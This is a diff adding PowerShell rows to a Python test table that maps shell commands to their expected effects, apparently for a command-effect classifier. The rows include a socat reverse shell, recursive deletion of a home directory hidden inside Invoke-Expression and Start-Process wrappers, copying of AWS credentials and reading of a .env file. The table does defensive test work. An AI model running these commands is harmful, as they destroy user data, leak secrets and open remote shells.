@@ -141,6 +141,18 @@ ROW_EXAMPLES: list[tuple[str, dict[str, Any]]] = [
     ("launchctl load ~/Library/LaunchAgents/x.plist", {"kind": "persist"}),
     ("launchctl bootstrap gui/501 x.plist", {"kind": "persist"}),
     ("socat tcp:10.0.0.1:4444 exec:sh", {"kind": "network", "host": "10.0.0.1", "direction": "tunnel"}),
+    # PowerShell cmdlets and their aliases (case-insensitive rows)
+    ("Remove-Item -Recurse -Force /home/ana/x", {"kind": "delete", "path": "/home/ana/x", "recursive": True}),
+    ("rmdir -Recurse build", {"kind": "delete", "path": "/home/ana/app/build", "recursive": True}),
+    ("Move-Item a.txt /tmp/b.txt", {"kind": "delete", "path": "/home/ana/app/a.txt"}),
+    ("Copy-Item -Recurse ~/.aws /tmp/x", {"kind": "read", "path": "/home/ana/.aws"}),
+    ("Set-Content -Path notes.txt -Value x", {"kind": "write", "path": "/home/ana/app/notes.txt"}),
+    ("Get-Content .env", {"kind": "read", "path": "/home/ana/app/.env"}),
+    ("Select-String -Pattern TODO -Path src/a.ps1", {"kind": "read", "path": "/home/ana/app/src/a.ps1"}),
+    ("Invoke-Expression 'Remove-Item -Recurse /home/ana'", {"kind": "delete", "path": "/home/ana"}),
+    ("powershell -Command 'Remove-Item -Recurse /home/ana'", {"kind": "delete", "path": "/home/ana"}),
+    ("Start-Process pwsh -ArgumentList '-c Remove-Item -Recurse /home/ana'", {"kind": "delete", "path": "/home/ana"}),
+    ("Invoke-WebRequest https://x.example/a -OutFile a.ps1", {"kind": "write", "path": "/home/ana/app/a.ps1"}),
 ]
 NO_EFFECT = {"ssh-keygen -y -f ~/.ssh/id_rsa", "git show HEAD:README.md"}
 """Rows that say a program touches nothing (it only uses a key, it prints from the repository)."""
